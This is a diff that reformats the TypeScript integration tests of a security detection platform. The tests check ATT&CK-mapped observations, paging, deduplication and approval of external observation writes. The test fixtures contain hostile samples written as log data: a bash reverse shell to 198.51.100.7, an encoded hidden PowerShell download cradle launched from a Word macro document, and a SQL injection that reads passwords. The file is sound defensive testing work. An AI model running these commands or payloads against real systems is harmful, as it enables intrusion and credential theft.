@@ -6,7 +6,16 @@ import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { databaseTargets, type TestDatabase } from './helpers/databases.js';
 import { startServer, type TestServer } from './helpers/server.js';
-import { apiClient, bearer, detectionCaughtUp, ingest, issueToken, seedTenant, signIn, type ApiClient } from './helpers/api.js';
+import {
+  apiClient,
+  bearer,
+  detectionCaughtUp,
+  ingest,
+  issueToken,
+  seedTenant,
+  signIn,
+  type ApiClient,
+} from './helpers/api.js';
 import { webAccessRecord } from './helpers/factories.js';
 import type { Tenant } from '../src/identity/tenant-service.js';
 import type { AuditEvent } from '../src/identity/audit-service.js';
@@ -26,7 +35,8 @@ function sysmonOfficePowershell(host: string): Record<string, unknown> {
     Computer: host,
     UtcTime: now(),
     Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-    CommandLine: 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+    CommandLine:
+      'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
     ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
     ParentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\bob\\Downloads\\invoice.docm"',
     User: 'CORP\\bob',
@@ -44,7 +54,12 @@ function reverseShell(host: string): Record<string, unknown> {
     endpoint_id: 'ep-7',
     user: 'www-data',
     os: 'linux',
-    process: { name: 'bash', pid: 31337, executable: '/bin/bash', command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' },
+    process: {
+      name: 'bash',
+      pid: 31337,
+      executable: '/bin/bash',
+      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+    },
     parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
   };
 }
@@ -70,7 +85,10 @@ for (const target of databaseTargets) {
     });
 
     test('attacks in the records become observations with techniques, device and evidence; benign ones do not', async () => {
-      const sqli = webAccessRecord({ request: "GET /item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1", hostname: 'web-01' });
+      const sqli = webAccessRecord({
+        request: "GET /item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
+        hostname: 'web-01',
+      });
       const benign = [webAccessRecord(), webAccessRecord()];
       await ingest(server, [...benign, sqli, sysmonOfficePowershell('ws-042'), reverseShell('web-02')]);
       await detectionCaughtUp(server);
@@ -78,9 +96,14 @@ for (const target of databaseTargets) {
       const listed = await reader.get('/v1/observations?limit=100');
       assert.equal(listed.status, 200, JSON.stringify(listed.body));
       const observations = listed.body.observations as ObservationView[];
-      const techniques = new Set(observations.flatMap((observation) => observation.techniques.map((technique: Technique) => technique.id)));
+      const techniques = new Set(
+        observations.flatMap((observation) => observation.techniques.map((technique: Technique) => technique.id)),
+      );
       assert.ok(techniques.has('T1190'), `SQL injection maps to T1190; got ${[...techniques].join(', ')}`);
-      assert.ok([...techniques].some((id) => id.startsWith('T1059')), 'the shells map to T1059');
+      assert.ok(
+        [...techniques].some((id) => id.startsWith('T1059')),
+        'the shells map to T1059',
+      );
       const hosts = new Set(observations.map((observation) => observation.host));
       assert.ok(hosts.has('ws-042') && hosts.has('web-02'), `devices named: ${[...hosts].join(', ')}`);
       for (const observation of observations) {
@@ -92,12 +115,18 @@ for (const target of databaseTargets) {
 
       // T1190 is also the web-server-spawns-a-shell rule's technique: pick the SQL injection one.
       const web = observations.find((observation) => observation.rule.title === 'SQL Injection Attempt in Web Request');
-      assert.ok(web, `no SQL injection observation among ${observations.map((observation) => observation.rule.title).join('; ')}`);
+      assert.ok(
+        web,
+        `no SQL injection observation among ${observations.map((observation) => observation.rule.title).join('; ')}`,
+      );
       const detail = await reader.get(`/v1/observations/${web.id}`);
       assert.equal(detail.status, 200);
       assert.equal(detail.body.evidence[0].record.marker, sqli.marker, 'the evidence is the triggering record');
       assert.ok(Object.keys(detail.body.evidence[0].fields).length > 0, 'with the fields the rule looked at');
-      assert.equal((detail.body as ObservationDetail).techniques.find((technique) => technique.id === 'T1190')?.name, 'Exploit Public-Facing Application');
+      assert.equal(
+        (detail.body as ObservationDetail).techniques.find((technique) => technique.id === 'T1190')?.name,
+        'Exploit Public-Facing Application',
+      );
 
       const benignMarkers = new Set(benign.map((record) => record.marker));
       for (const observation of observations) {
@@ -106,15 +135,26 @@ for (const target of databaseTargets) {
       }
       const filtered = await reader.get('/v1/observations?technique=T1059&limit=100');
       assert.ok(filtered.body.observations.length > 0);
-      assert.ok(filtered.body.observations.every((observation: ObservationView) => observation.techniques.some((technique: Technique) => technique.id.startsWith('T1059'))));
+      assert.ok(
+        filtered.body.observations.every((observation: ObservationView) =>
+          observation.techniques.some((technique: Technique) => technique.id.startsWith('T1059')),
+        ),
+      );
       const byHost = await reader.get('/v1/observations?host=ws-042');
-      assert.ok(byHost.body.observations.length > 0 && byHost.body.observations.every((observation: ObservationView) => observation.host === 'ws-042'));
+      assert.ok(
+        byHost.body.observations.length > 0 &&
+          byHost.body.observations.every((observation: ObservationView) => observation.host === 'ws-042'),
+      );
       const byLevel = await reader.get('/v1/observations?level=informational');
-      assert.ok(byLevel.body.observations.every((observation: ObservationView) => observation.level === 'informational'));
+      assert.ok(
+        byLevel.body.observations.every((observation: ObservationView) => observation.level === 'informational'),
+      );
     });
 
     test('pages follow next_cursor without gaps or repeats', async () => {
-      const all = (await reader.get('/v1/observations?limit=500')).body.observations.map((observation: ObservationView) => observation.id);
+      const all = (await reader.get('/v1/observations?limit=500')).body.observations.map(
+        (observation: ObservationView) => observation.id,
+      );
       const paged: string[] = [];
       let cursor: string | null = null;
       do {
@@ -138,7 +178,11 @@ for (const target of databaseTargets) {
     test('reprocessing the log never doubles an observation (dedupe by rule and record)', async () => {
       const before = (await reader.get('/v1/observations?limit=500')).body.observations.length;
       // Rewind the detection cursor as a crash between commit and acknowledgement could.
-      await server.sightline.database.db.updateTable('log_cursors').set({ seq: 0, tx_id: '0' }).where('name', '=', 'detection').execute();
+      await server.sightline.database.db
+        .updateTable('log_cursors')
+        .set({ seq: 0, tx_id: '0' })
+        .where('name', '=', 'detection')
+        .execute();
       await ingest(server, [webAccessRecord()]);
       await detectionCaughtUp(server);
       const afterCount = (await reader.get('/v1/observations?limit=500')).body.observations.length;
@@ -154,31 +198,74 @@ for (const target of databaseTargets) {
     });
 
     test('writing observations: refused until approved, then validated, idempotent and held to the approved volume', async () => {
-      const writer = apiClient(server, bearer((await issueToken(server, acme, ['observations:write', 'observations:read'])).value));
-      const observation = { external_id: 'edr-1', title: 'EDR: credential dumping', level: 'critical', techniques: ['T1003.001'], host: 'ws-042', first_time: now() };
+      const writer = apiClient(
+        server,
+        bearer((await issueToken(server, acme, ['observations:write', 'observations:read'])).value),
+      );
+      const observation = {
+        external_id: 'edr-1',
+        title: 'EDR: credential dumping',
+        level: 'critical',
+        techniques: ['T1003.001'],
+        host: 'ws-042',
+        first_time: now(),
+      };
       const refused = await writer.post('/v1/observations', observation);
       assert.equal(refused.status, 403);
       assert.equal(refused.body.code, 'observation_write_not_approved');
       assert.match(refused.body.detail, /observation-write-requests/);
 
       // Only a tenant admin files the review; a token cannot.
-      const byToken = await writer.post('/v1/observation-write-requests', { service_impact: 'none at all here', correlation: 'joins cases by host name', expected_volume_per_hour: 2 });
+      const byToken = await writer.post('/v1/observation-write-requests', {
+        service_impact: 'none at all here',
+        correlation: 'joins cases by host name',
+        expected_volume_per_hour: 2,
+      });
       assert.equal(byToken.status, 403);
       assert.equal(byToken.body.code, 'tenant_admin_required');
       const admin = await signIn(server, { tenant: acme, role: 'admin', email: `admin-${target.kind}@acme.example` });
       const csrf = { 'x-csrf-token': admin.csrf };
-      const statement = { service_impact: 'No change to the managed services', correlation: 'EDR alerts name hosts, so they join the same cases', expected_volume_per_hour: 2 };
+      const statement = {
+        service_impact: 'No change to the managed services',
+        correlation: 'EDR alerts name hosts, so they join the same cases',
+        expected_volume_per_hour: 2,
+      };
       const filed = await admin.client.post('/v1/observation-write-requests', statement, csrf);
       assert.equal(filed.status, 201, JSON.stringify(filed.body));
       assert.equal(filed.body.status, 'pending');
-      assert.equal((await admin.client.post('/v1/observation-write-requests', statement, csrf)).body.code, 'review_request_pending');
+      assert.equal(
+        (await admin.client.post('/v1/observation-write-requests', statement, csrf)).body.code,
+        'review_request_pending',
+      );
       assert.equal((await writer.post('/v1/observations', observation)).status, 403, 'filing is not approval');
 
-      const operator = await signIn(server, { tenant: null, role: 'operator', email: `operator-${target.kind}@platform.example` });
+      const operator = await signIn(server, {
+        tenant: null,
+        role: 'operator',
+        email: `operator-${target.kind}@platform.example`,
+      });
       const queue = await operator.client.get('/v1/operator/observation-write-requests?status=pending');
-      assert.ok(queue.body.requests.some((request: WriteRequestView) => request.id === filed.body.id && request.tenant === 'acme'));
-      assert.equal((await admin.client.post(`/v1/operator/observation-write-requests/${filed.body.id}/decision`, { decision: 'approve' }, csrf)).status, 403, 'tenant admins cannot approve themselves');
-      const approved = await operator.client.post(`/v1/operator/observation-write-requests/${filed.body.id}/decision`, { decision: 'approve', note: 'reviewed' }, { 'x-csrf-token': operator.csrf });
+      assert.ok(
+        queue.body.requests.some(
+          (request: WriteRequestView) => request.id === filed.body.id && request.tenant === 'acme',
+        ),
+      );
+      assert.equal(
+        (
+          await admin.client.post(
+            `/v1/operator/observation-write-requests/${filed.body.id}/decision`,
+            { decision: 'approve' },
+            csrf,
+          )
+        ).status,
+        403,
+        'tenant admins cannot approve themselves',
+      );
+      const approved = await operator.client.post(
+        `/v1/operator/observation-write-requests/${filed.body.id}/decision`,
+        { decision: 'approve', note: 'reviewed' },
+        { 'x-csrf-token': operator.csrf },
+      );
       assert.equal(approved.status, 200, JSON.stringify(approved.body));
       assert.equal(approved.body.status, 'approved');
 
@@ -191,10 +278,18 @@ for (const target of databaseTargets) {
       assert.equal(again.status, 200);
       assert.equal(again.body.id, written.body.id);
 
-      const unknownTechnique = await writer.post('/v1/observations', { ...observation, external_id: 'edr-x', techniques: ['T9999'] });
+      const unknownTechnique = await writer.post('/v1/observations', {
+        ...observation,
+        external_id: 'edr-x',
+        techniques: ['T9999'],
+      });
       assert.equal(unknownTechnique.status, 400);
       assert.match(unknownTechnique.body.detail, /T9999/);
-      const foreignRecord = await writer.post('/v1/observations', { ...observation, external_id: 'edr-y', record_ids: ['999999999'] });
+      const foreignRecord = await writer.post('/v1/observations', {
+        ...observation,
+        external_id: 'edr-y',
+        record_ids: ['999999999'],
+      });
       assert.equal(foreignRecord.status, 400);
       assert.equal(foreignRecord.body.field, 'record_ids');
 
@@ -206,7 +301,10 @@ for (const target of databaseTargets) {
 
       const external = (await reader.get('/v1/observations?source=external')).body.observations;
       assert.equal(external.length, 2);
-      assert.ok(external.some((item: ObservationView) => item.id === written.body.id) && external.every((item: ObservationView) => item.source === 'external'));
+      assert.ok(
+        external.some((item: ObservationView) => item.id === written.body.id) &&
+          external.every((item: ObservationView) => item.source === 'external'),
+      );
       const audit = await admin.client.get('/v1/audit-events?limit=100');
       const actions = audit.body.events.map((event: AuditEvent) => event.action);
       assert.ok(actions.includes('observation_write.requested') && actions.includes('observation_write.approved'));
@@ -220,7 +318,12 @@ for (const target of databaseTargets) {
       assert.ok(response.body.rules.every((rule: RuleView) => rule.file.startsWith('rules/') && rule.author));
       assert.ok(response.body.rules.some((rule: RuleView) => rule.type === 'correlation'));
       const web = await reader.get('/v1/rules?technique=T1190');
-      assert.ok(web.body.rules.length > 0 && web.body.rules.every((rule: RuleView) => rule.techniques.some((technique: Technique) => technique.id === 'T1190')));
+      assert.ok(
+        web.body.rules.length > 0 &&
+          web.body.rules.every((rule: RuleView) =>
+            rule.techniques.some((technique: Technique) => technique.id === 'T1190'),
+          ),
+      );
       assert.deepEqual((await reader.get('/v1/rules/rejected')).body.rejected, []);
     });
 
